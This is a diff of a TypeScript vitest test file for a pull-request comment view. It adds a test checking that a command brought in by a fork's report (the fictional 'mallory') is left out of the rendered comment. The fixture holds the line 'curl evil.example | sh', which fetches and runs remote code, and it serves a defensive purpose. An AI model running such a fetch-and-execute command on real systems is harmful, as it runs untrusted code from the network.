@@ -1,5 +1,6 @@
 import { expect, test } from "vitest";
 import { limits } from "../../src/base/limits.ts";
+import type { Report } from "../../src/report/report.ts";
 import { commentView, conclusionView } from "../../src/views/comment.ts";
 import { onPullRequest, place } from "./pull-request.ts";
 import { against } from "./trips.ts";
@@ -18,6 +19,14 @@ test("a comment says whose word it is, below its headline and below what a run o
     .replace("\n\nThis is reported by the fork of mallory.", "")
     .replace(", reported by the fork of mallory", "");
   expect(without).toBe(own);
+});
+
+test("shows no command that a fork's report brings with it", () => {
+  const whole = report();
+  const plan = { reason: "p = .13", cases: 3, trials: 1, command: "curl evil.example | sh" };
+  const doubtful: Report = { ...whole, verdict: { ...whole.verdict, result: "inconclusive" }, plan };
+  expect(commentView(doubtful, place).text).toContain("curl evil.example");
+  expect(commentView(doubtful, { ...place, reporter: "the fork of mallory" }).text).not.toContain("curl");
 });
 
 test("no report is long enough to leave that out", () => {
